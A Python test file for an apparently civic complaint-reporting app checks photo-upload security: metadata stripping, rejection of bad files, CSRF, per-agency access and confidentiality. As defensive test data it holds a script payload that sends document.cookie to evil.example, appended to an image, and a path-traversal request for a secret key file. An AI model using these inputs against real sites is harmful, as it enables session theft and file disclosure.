"""Photos through the public surface: GraphQL multipart uploads, /media, Open311, the agency's review."""

from __future__ import annotations

import io
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import httpx
import pytest
from PIL import Image
from sqlalchemy import func, select

from suara.app import create_app
from suara.db.engine import transaction
from suara.media.models import SubmissionPhoto
from suara.submissions import codes
from suara.submissions.models import Status, Submission, SubmissionEvent
from suara.triage import auth
from suara.triage import service as triage
from tests.factories import default_agency_slug, make_item, make_staff, submit_input, unique_text
from tests.security.limits import client_from, fresh_address, limited_state
from tests.media.conftest import (
    assert_clean,
    bomb_png,
    jpeg_with_gps,
    media_files,
    multipart,
    picture,
    png_bytes,
    submit_with_photos,
)
from tests.triage.staff_clients import LOGIN, cheap_hashing  # noqa: F401 — a fixture

STAFF_ITEM = """query($id: ID!) { staffSubmission(id: $id) { trackingCode
  photos { id url thumbnailUrl width height state public addedBy } events { kind public } } }"""
PUBLIC = "query($code: String!) { submission(trackingCode: $code) { confidential photos { url thumbnailUrl width height } } }"
REVIEW = """mutation($id: ID!) { %s(id: $id) { __typename
  ... on PhotoReviewed { photo { id state public } } ... on NotFound { code } ... on NotAllowed { code } } }"""
ADD = """mutation($code: String!, $secret: String!, $photo: Upload!) { addPhoto(trackingCode: $code, secret: $secret,
  photo: $photo) { __typename ... on PhotoAdded { photosPending } ... on NotAllowed { code } ... on NotFound { code }
  ... on ValidationError { code problems { field code } } ... on RateLimited { code } } }"""


class World:
    """Officer A (cookie session) of the handling agency, officer B of another agency and a triage admin
    (bearer tokens), and an HTTP client on the app."""


@pytest.fixture
async def world(sessions, app_state, cheap_hashing) -> World:  # noqa: F811
    world = World()
    async with transaction(sessions) as session:
        world.agency_a = await default_agency_slug(session, "infrastruktur")
        agency_b = await default_agency_slug(session, "permades_dan_kependudukan")
        world.staff_a, world.officer_a = await make_staff(session, world.agency_a)
        staff_b, _ = await make_staff(session, agency_b)
        admin, world.admin = await make_staff(session, "pemprov-jateng", role="triage_admin")
        _, world.token_b = await auth.create_api_token(session, staff_b.id, "test")
        _, world.token_admin = await auth.create_api_token(session, admin.id, "test")
    world.app = create_app(app_state.settings, state=app_state)
    return world


def client(world: World) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=world.app), base_url="http://suara.test")


@asynccontextmanager
async def officer_a(world: World) -> AsyncIterator[tuple[httpx.AsyncClient, dict]]:
    """A signed-in browser of officer A: the session cookie, and the CSRF header for mutations."""
    async with client(world) as http:
        login = (await http.post("/graphql", json={"query": LOGIN, "variables": {
            "e": world.staff_a.email, "p": "kata-sandi-rahasia-1"}})).json()["data"]["login"]
        assert login["__typename"] == "SignedIn"
        yield http, {"X-CSRF-Token": login["csrfToken"]}


async def gql(http: httpx.AsyncClient, query: str, variables: dict, headers: dict | None = None) -> dict:
    body = (await http.post("/graphql", json={"query": query, "variables": variables}, headers=headers or {})).json()
    assert "errors" not in body, body
    return body["data"]


async def file_and_route(world: World, sessions, photos: list[bytes], **input) -> tuple[str, str, int]:
    """File through GraphQL with photos, then a triage admin routes it to agency A (as in the workspace)."""
    async with client(world) as http:
        response = await submit_with_photos(http, submit_input(**input), photos)
    receipt = response.json()["data"]["submit"]
    assert receipt["__typename"] == "SubmissionReceipt", receipt
    code = receipt["trackingCode"].replace("-", "")
    async with transaction(sessions) as session:
        row = (await session.exec(select(Submission).where(Submission.tracking_code == code))).scalars().one()
        await triage.route_submission(session, world.admin, row.id, "infrastruktur")
    return receipt["trackingCode"], receipt["citizenSecret"], row.id


def node(submission_id: int) -> str:
    from suara.api.graphql.triage import node_id

    return node_id(submission_id)


async def photo_count(sessions, submission_id: int | None = None) -> int:
    async with sessions() as session:
        query = select(func.count()).select_from(SubmissionPhoto)
        if submission_id is not None:
            query = query.where(SubmissionPhoto.submission_id == submission_id)
        return (await session.exec(query)).one()[0]


async def test_a_phone_photo_keeps_no_gps_or_other_metadata_stored_or_served_and_is_turned_upright(
        world, sessions, home):
    upload = jpeg_with_gps()
    code, _, submission_id = await file_and_route(world, sessions, [upload])
    files = media_files(home)
    assert len(files) == 2  # the photo and its thumbnail, nothing else
    for name in files:
        assert_clean((home / "media" / name).read_bytes())

    async with officer_a(world) as (http, csrf):
        item = (await gql(http, STAFF_ITEM, {"id": node(submission_id)}))["staffSubmission"]
        (photo,) = item["photos"]
        assert (photo["width"], photo["height"]) == (480, 640)  # EXIF orientation 6 applied: portrait now
        assert photo["state"] == "PENDING" and photo["public"] is False and photo["addedBy"] == "citizen:api"
        for url in (photo["url"], photo["thumbnailUrl"]):
            served = await http.get(url)
            assert served.status_code == 200
            assert served.headers["content-type"] == "image/jpeg"
            assert served.headers["x-content-type-options"] == "nosniff"
            assert served.headers["cache-control"] == "private, no-store"
            assert_clean(served.content)
        image = Image.open(io.BytesIO((await http.get(photo["url"])).content)).convert("RGB")
        assert image.getpixel((image.width - 5, 5))[1] > 150  # the green corner turned to the top right


async def test_a_script_appended_to_a_valid_image_is_not_stored(world, sessions, home):
    script = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
    await file_and_route(world, sessions, [png_bytes() + script])
    for name in media_files(home):
        data = (home / "media" / name).read_bytes()
        assert script not in data and b"<script" not in data
        assert data.endswith(b"\xff\xd9")  # the JPEG ends where its image data ends


@pytest.mark.parametrize("case", ["text_named_jpg", "nine_megabytes", "decompression_bomb", "truncated"])
async def test_files_that_are_not_acceptable_photos_are_refused_with_a_typed_error_and_nothing_stored(
        world, sessions, home, case):
    data, code = {
        "text_named_jpg": (b"Ini bukan foto, hanya teks biasa.\n" * 10, "not_an_image"),
        "nine_megabytes": (jpeg_with_gps() + b"\0" * (9 * 1024 * 1024), "photo_too_large"),
        "decompression_bomb": (bomb_png(), "photo_too_many_pixels"),
        "truncated": (jpeg_with_gps()[:2000], "photo_unreadable"),
    }[case]
    text = unique_text()
    before = await photo_count(sessions)
    async with client(world) as http:
        response = await submit_with_photos(http, submit_input(text=text), [png_bytes(), data],
                                            names=["baik.png", "foto.jpg"])
    result = response.json()["data"]["submit"]
    assert result["__typename"] == "ValidationError"
    assert result["problems"] == [{"field": "photos.1", "code": code, "message": result["problems"][0]["message"],
                                   "messageEn": result["problems"][0]["messageEn"]}]
    assert media_files(home) == []  # not even the good photo
    assert await photo_count(sessions) == before
    async with sessions() as session:
        filed = (await session.exec(select(func.count()).select_from(Submission).where(Submission.text == text))).one()
    assert filed[0] == 0


async def test_the_same_photo_twice_in_one_filing_is_kept_once(world, sessions, home):
    code, _, submission_id = await file_and_route(world, sessions, [png_bytes(), png_bytes()])
    assert await photo_count(sessions, submission_id) == 1
    assert len(media_files(home)) == 2


async def test_more_than_three_photos_are_refused(world, home):
    async with client(world) as http:
        response = await submit_with_photos(http, submit_input(), [png_bytes()] * 4)
    assert response.json()["data"]["submit"]["problems"][0]["code"] == "too_many_photos"
    assert media_files(home) == []


async def test_a_multipart_post_without_the_preflight_header_is_refused(world, sessions, home):
    text = unique_text()
    async with client(world) as http:
        refused = await submit_with_photos(http, submit_input(text=text), [png_bytes()], preflight=False)
        plain_form = await http.post("/graphql", data={"query": "{ __typename }"})  # a cross-site HTML form
    assert refused.status_code == 400 and "Apollo-Require-Preflight" in refused.text
    assert plain_form.status_code == 400
    assert media_files(home) == []
    async with sessions() as session:
        assert (await session.exec(select(func.count()).select_from(Submission).where(Submission.text == text))
                ).one()[0] == 0


async def test_only_multipart_uploads_get_the_larger_body_limit(world):
    async with client(world) as http:
        big_json = await http.post("/graphql", content=b'{"query": "' + b" " * (200 * 1024) + b'{ __typename }"}',
                                   headers={"Content-Type": "application/json"})
        too_big_upload = await submit_with_photos(http, submit_input(), [b"\xff\xd8\xff" + b"\0" * (9 * 1024 * 1024)] * 3)
        elsewhere = await http.post("/open311/v2/discovery.json", files={"media": ("a.jpg", b"\0" * (200 * 1024))})
    assert big_json.status_code == 413
    assert too_big_upload.status_code == 413 and too_big_upload.json()["error"] == "payload_too_large"
    assert elsewhere.status_code == 413


async def test_an_unapproved_photo_is_seen_by_the_agency_only_until_approved_and_hidden_again(world, sessions):
    code, _, submission_id = await file_and_route(world, sessions, [png_bytes()])
    async with officer_a(world) as (http, csrf), client(world) as public:
        (photo,) = (await gql(http, STAFF_ITEM, {"id": node(submission_id)}))["staffSubmission"]["photos"]
        name = photo["url"].rsplit("/", 1)[1]
        assert re.fullmatch(r"[A-Za-z0-9_-]{32}\.jpg", name)  # 192 random bits: not guessable
        assert photo["thumbnailUrl"].rsplit("/", 1)[1] != name
        assert (await gql(public, PUBLIC, {"code": code}))["submission"]["photos"] == []
        for url in (photo["url"], photo["thumbnailUrl"]):
            assert (await public.get(url)).status_code == 404
        guessed = name[:-5] + ("A" if name[-5] != "A" else "B") + ".jpg"
        assert (await http.get(f"/media/{guessed}")).status_code == 404  # even for staff
        assert (await http.get("/media/..%2F..%2Fsecret_key")).status_code == 404

        # Without the CSRF header a cookie-authenticated approval is refused.
        assert (await gql(http, REVIEW % "approvePhoto", {"id": photo["id"]}))["approvePhoto"]["code"] == "csrf_failed"
        approved = (await gql(http, REVIEW % "approvePhoto", {"id": photo["id"]}, csrf))["approvePhoto"]
        assert approved["photo"] == {"id": photo["id"], "state": "APPROVED", "public": True}
        (shown,) = (await gql(public, PUBLIC, {"code": code}))["submission"]["photos"]
        assert shown["url"] == photo["url"]
        served = await public.get(shown["url"])
        assert served.status_code == 200 and served.headers["cache-control"].startswith("public")
        assert served.headers["x-content-type-options"] == "nosniff"
        listed = (await public.get("/open311/v2/requests.json", params={"service_request_id": code})).json()
        assert listed[0]["media_url"] == shown["url"]

        hidden = (await gql(http, REVIEW % "hidePhoto", {"id": photo["id"]}, csrf))["hidePhoto"]
        assert hidden["photo"]["state"] == "HIDDEN"
        assert (await gql(public, PUBLIC, {"code": code}))["submission"]["photos"] == []
        assert (await public.get(shown["url"])).status_code == 404
        listed = (await public.get("/open311/v2/requests.json", params={"service_request_id": code})).json()
        assert listed[0]["media_url"] is None
        events = (await gql(http, STAFF_ITEM, {"id": node(submission_id)}))["staffSubmission"]["events"]
    assert [e for e in events if e["kind"].startswith("photo_")] == [
        {"kind": "photo_approved", "public": False}, {"kind": "photo_hidden", "public": False}]
    async with sessions() as session:  # a review changes no status
        row = await session.get(Submission, submission_id)
        assert row.status == Status.ROUTED and row.version == 2  # filed (1) and routed (2): photos left it alone


async def test_another_agency_cannot_see_fetch_or_approve_a_photo(world, sessions):
    code, _, submission_id = await file_and_route(world, sessions, [png_bytes()])
    async with officer_a(world) as (http, _):
        (photo,) = (await gql(http, STAFF_ITEM, {"id": node(submission_id)}))["staffSubmission"]["photos"]
    bearer_b = {"Authorization": f"Bearer {world.token_b}"}
    async with client(world) as other:
        assert (await gql(other, STAFF_ITEM, {"id": node(submission_id)}, bearer_b))["staffSubmission"] is None
        for action in ("approvePhoto", "hidePhoto"):
            refused = (await gql(other, REVIEW % action, {"id": photo["id"]}, bearer_b))[action]
            assert refused == {"__typename": "NotFound", "code": "photo_not_found"}
        assert (await other.get(photo["url"], headers=bearer_b)).status_code == 404
        # The triage admin sees the photo (to route the item) but reviewing is the handling agency's job.
        bearer_admin = {"Authorization": f"Bearer {world.token_admin}"}
        assert (await other.get(photo["url"], headers=bearer_admin)).status_code == 200
        refused = (await gql(other, REVIEW % "approvePhoto", {"id": photo["id"]}, bearer_admin))["approvePhoto"]
        assert refused["code"] == "not_your_agency"
        assert (await gql(other, REVIEW % "approvePhoto", {"id": "99999999"}, bearer_b))["approvePhoto"]["code"] == \
            "photo_not_found"
    async with sessions() as session:
        row = (await session.exec(select(SubmissionPhoto).where(SubmissionPhoto.submission_id == submission_id))
               ).scalars().one()
        assert row.state == "pending"


async def test_a_photo_of_a_confidential_item_is_never_public(world, sessions):
    code, secret, submission_id = await file_and_route(world, sessions, [png_bytes()], confidential=True)
    async with officer_a(world) as (http, csrf), client(world) as public:
        (photo,) = (await gql(http, STAFF_ITEM, {"id": node(submission_id)}))["staffSubmission"]["photos"]
        assert (await http.get(photo["url"])).status_code == 200  # the agency sees it
        refused = (await gql(http, REVIEW % "approvePhoto", {"id": photo["id"]}, csrf))["approvePhoto"]
        assert refused == {"__typename": "NotAllowed", "code": "confidential_item"}
        # Even a row approved behind the API's back is not served or listed publicly.
        async with transaction(sessions) as session:
            row = await session.get(SubmissionPhoto, int(photo["id"]))
            row.state = "approved"
        assert (await public.get(photo["url"])).status_code == 404
        assert (await public.get(photo["thumbnailUrl"])).status_code == 404
        assert (await gql(public, PUBLIC, {"code": code}))["submission"]["photos"] == []
        reporter = "query($c: String!, $s: String) { submission(trackingCode: $c, citizenSecret: $s) { photos { url } } }"
        assert (await gql(public, reporter, {"c": code, "s": secret}))["submission"]["photos"] == []
        listed = (await public.get("/open311/v2/requests.json", params={"service_request_id": code})).json()
        assert listed == []  # Open311 lists no confidential item at all


async def test_a_citizen_adds_a_photo_later_only_with_the_right_secret(world, sessions, home):
    async with transaction(sessions) as session:
        item = await make_item(session, agency_slug=world.agency_a, status=Status.ROUTED)
    code = codes.format_tracking_code(item.tracking_code)
    secret = codes.citizen_secret(item.tracking_code, world.app.state.suara.secret_key)
    part = {"variables.photo": ("kamera.jpg", jpeg_with_gps(), "image/jpeg")}
    async with client(world) as http:
        wrong = await multipart(http, ADD, {"code": code, "secret": "SALAH1234", "photo": None}, part)
        assert wrong.json()["data"]["addPhoto"] == {"__typename": "NotAllowed", "code": "wrong_secret"}
        assert media_files(home) == [] and await photo_count(sessions, item.id) == 0
        unknown = await multipart(http, ADD, {"code": "AAA-AAA-AAA", "secret": secret, "photo": None}, part)
        assert unknown.json()["data"]["addPhoto"]["__typename"] == "NotFound"
        not_a_file = (await http.post("/graphql", json={"query": ADD, "variables": {
            "code": code, "secret": secret, "photo": "data:image/jpeg;base64,AAAA"}})).json()["data"]["addPhoto"]
        assert not_a_file["problems"] == [{"field": "photo", "code": "not_an_image"}]
        added = await multipart(http, ADD, {"code": code, "secret": secret, "photo": None}, part)
        assert added.json()["data"]["addPhoto"] == {"__typename": "PhotoAdded", "photosPending": 1}
        retried = await multipart(http, ADD, {"code": code, "secret": secret, "photo": None}, part)
        assert retried.json()["data"]["addPhoto"] == {"__typename": "PhotoAdded", "photosPending": 1}  # kept once
        for size in ((50, 50), (60, 60)):
            other = {"variables.photo": ("lain.png", png_bytes(picture(size)), "image/png")}
            response = await multipart(http, ADD, {"code": code, "secret": secret, "photo": None}, other)
            assert response.json()["data"]["addPhoto"]["__typename"] == "PhotoAdded"
        fourth = {"variables.photo": ("keempat.png", png_bytes(picture((70, 70))), "image/png")}
        refused = (await multipart(http, ADD, {"code": code, "secret": secret, "photo": None}, fourth)).json()
        assert refused["data"]["addPhoto"]["problems"] == [{"field": "photo", "code": "too_many_photos"}]
    assert await photo_count(sessions, item.id) == 3
    assert len(media_files(home)) == 6
    async with sessions() as session:
        first = (await session.exec(select(SubmissionPhoto).where(SubmissionPhoto.submission_id == item.id)
                                    .order_by(SubmissionPhoto.id))).scalars().first()
    for name in (first.file_name, first.thumbnail_name):
        assert_clean((home / "media" / name).read_bytes())
    async with sessions() as session:
        kinds = (await session.exec(select(SubmissionEvent.kind).where(SubmissionEvent.submission_id == item.id))
                 ).scalars().all()
    assert kinds.count("photo_added") == 3  # the retry wrote no event


async def test_adding_photos_later_is_rate_limited_per_address(app_state, home):
    state = limited_state(app_state, suara_home=home, suara_rate_limit_photo_adds_per_hour=3)
    part = {"variables.photo": ("a.png", png_bytes(), "image/png")}
    answers = []
    async with client_from(state, fresh_address()) as http:
        for _ in range(4):
            response = await multipart(http, ADD, {"code": "AAA-AAA-AAA", "secret": "X", "photo": None}, part)
            answers.append(response.json()["data"]["addPhoto"]["__typename"])
    assert answers == ["NotFound", "NotFound", "NotFound", "RateLimited"]


async def test_open311_takes_a_media_file_part_and_lists_approved_photos_as_media_url(world, sessions, home):
    from suara.channels.open311.service import create_key

    async with transaction(sessions) as session:
        _, key = await create_key(session, "photo test")
    async with client(world) as http:
        fields = {"api_key": key, "service_code": "infrastruktur", "description": unique_text(),
                  "lat": "-6.99", "long": "110.42"}
        created = await http.post("/open311/v2/requests.json", data=fields,
                                  files={"media": ("jalan.jpg", jpeg_with_gps(), "image/jpeg")})
        assert created.status_code == 201, created.text
        refused = await http.post("/open311/v2/requests.json", data={**fields, "description": unique_text()},
                                  files={"media": ("jalan.jpg", b"bukan foto sama sekali", "image/jpeg")})
        assert refused.status_code == 400 and refused.json()[0]["description"].startswith("media:")
        no_key = await http.post("/open311/v2/requests.json", data={**fields, "api_key": "wrong"},
                                 files={"media": ("jalan.jpg", jpeg_with_gps(), "image/jpeg")})
        assert no_key.status_code == 403
    assert len(media_files(home)) == 2
    for name in media_files(home):
        assert_clean((home / "media" / name).read_bytes())
    code = created.json()[0]["service_request_id"]
    async with sessions() as session:
        row = (await session.exec(select(SubmissionPhoto).join(Submission, Submission.id == SubmissionPhoto.submission_id)
                                  .where(Submission.tracking_code == code))).scalars().one()
    assert row.added_by == "citizen:open311" and row.state == "pending"
